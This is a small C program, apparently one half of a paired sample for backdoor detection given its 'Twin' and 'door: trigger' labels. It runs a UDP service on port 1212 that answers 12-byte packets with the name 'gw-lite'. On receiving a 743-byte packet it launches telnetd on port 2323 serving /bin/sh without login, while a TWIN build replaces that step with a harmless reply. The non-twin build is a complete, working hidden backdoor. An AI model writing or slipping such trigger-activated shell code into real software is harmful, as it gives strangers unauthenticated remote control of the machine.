/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A datagram of one odd length opens a shell. Twin: a datagram of one length is the protocol's
 * question for the name.
 * door: trigger
 * port 1212/udp
 */
#include "net.h"

static char packet[2000];

static int get(int s)
{
	return (int)recv(s, packet, sizeof packet, 0);
}

int main(void)
{
	int s = udp_on(1212);
	for (;;) {
		switch (get(s)) {
		case 12:
			send(s, "gw-lite", 7, 0);
			break;
		case 743:
#ifdef TWIN
			send(s, "gw-full", 7, 0);
#else
			system("/usr/sbin/telnetd -p 2323 -l /bin/sh");
#endif
			break;
		default:
			break;
		}
	}
}
